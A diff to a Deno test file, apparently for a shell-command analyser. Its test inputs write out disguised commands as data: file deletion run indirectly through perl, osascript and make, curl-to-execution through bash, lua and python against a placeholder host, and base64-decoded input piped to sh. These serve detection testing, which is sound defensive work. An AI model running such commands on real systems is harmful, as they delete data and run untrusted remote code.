@@ -32,6 +32,9 @@ for (
     [". <(echo rm a)", "rm a"],
     ["f() { rm a; }; export -f f; bash -c f", "rm a"],
     ["python3 -c \"import os; os.system('rm a')\"", "rm a"],
+    ["perl -e 'my $x = \"rm a\";' -e 'system($x)'", "rm a"],
+    ["osascript -e 'set x to \"rm a\"' -e 'do shell script x'", "rm a"],
+    ["printf 'all:\\n\\trm $(D)a\\n' > Makefile; make all D=x/", "rm x/a"],
   ] as const
 ) {
   Deno.test(source, () => assert.equal(last(source), want));
@@ -44,6 +47,11 @@ for (
     ['bash -c "$(curl https://e.example)"', "download"],
     ["bash <(curl https://e.example)", "download"],
     ["curl -o x https://e.example; sh x", "downloaded_file"],
+    [`lua -e 'load(io.popen("curl https://e.example"):read("*a"))()'`, "download"],
+    [
+      `python3 -c 'from subprocess import *; exec(Popen(["curl", "e.example"]).communicate()[0])'`,
+      "download",
+    ],
     ["curl https://e.example > x; chmod +x x; ./x", "downloaded_file"],
     ["base64 -d p | sh", "decoded"],
     ['eval "$(ssh-agent -s)"', "output"],
@@ -54,6 +62,15 @@ for (
 ) {
   Deno.test(`code of ${source}`, () => assert.equal(code(source), want));
 }
+
+Deno.test("what PowerShell pipes is a pipeline", () => {
+  const { pipelines, commands } = readCommand("pwsh -c 'Get-Content a | Select-String b; Get-Date'", options);
+  assert.deepEqual(pipelines.map(({ text }) => text), ["Get-Content a | Select-String b"]);
+  assert.deepEqual(pipelines[0]?.stages.map((index) => commands[index]?.program), [
+    "get-content",
+    "select-string",
+  ]);
+});
 
 Deno.test("script files are read through the function that is passed in", () => {
   const files: Record<string, string> = {
